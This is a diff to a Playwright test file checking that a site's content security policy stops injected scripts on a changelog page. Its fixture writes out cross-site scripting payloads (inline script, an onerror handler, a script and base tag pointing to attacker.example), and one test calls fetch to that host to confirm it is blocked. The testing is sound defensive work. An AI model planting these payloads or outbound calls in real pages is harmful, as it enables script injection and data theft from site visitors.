@@ -104,9 +104,11 @@ def test_search_and_palette_work_under_the_policy_of_zensical(
 
 
 @pytest.fixture
-def attacked(reader: Callable[..., Watched]) -> Iterator[playwright.Page]:
-    """A page into whose text somebody has brought a script, in each of the usual ways."""
-    visit = reader()
+def attacked(browser: playwright.Browser, address: str) -> Iterator[playwright.Page]:
+    """A page into whose text somebody has brought a script, in each of the usual ways.
+
+    It is not a ``reader``'s page: the violations that its console tells are wanted, and some come after the test.
+    """
     bad = (
         "<script>window.owned = 'script'</script><img src=x: onerror=\"window.owned = 'handler'\">"
         '<script src="https://attacker.example/x.js"></script><base href="https://attacker.example/">'
@@ -118,14 +120,17 @@ def attacked(reader: Callable[..., Watched]) -> Iterator[playwright.Page]:
         got = route.fetch()
         route.fulfill(response=got, body=got.text().replace("<article", f"{bad}<article", 1))
 
-    visit.page.route("**/changelog/", spoiled)
-    page = visit.open("changelog/")
+    page = browser.new_page()
+    page.set_default_timeout(120_000)
+    page.route("**/changelog/", spoiled)
+    page.goto(address + "changelog/", wait_until="networkidle")
     yield page
-    visit.faults.clear()  # the violations are what is wanted
+    page.close()
 
 
 def test_a_script_that_got_into_a_page_does_not_run(attacked: playwright.Page) -> None:
-    attacked.locator("#link").dispatch_event("click")
+    with attacked.expect_console_message(lambda m: "JavaScript URL" in m.text):  # the browser answers a click later
+        attacked.locator("#link").dispatch_event("click")
     assert attacked.evaluate("window.owned") is None
 
 
@@ -134,7 +139,8 @@ def test_a_page_cannot_send_anything_to_another_host(attacked: playwright.Page) 
     attacked.on("request", lambda r: asked.append(r.url))
     failed = attacked.evaluate("fetch('https://attacker.example/').then(() => false, () => true)")
     assert failed
-    attacked.locator("#give").dispatch_event("click")
+    with attacked.expect_console_message(lambda m: "form-action" in m.text):
+        attacked.locator("#give").dispatch_event("click")
     assert attacked.evaluate("document.baseURI.includes('attacker')") is False
     assert not [url for url in asked if "attacker" in url]
 
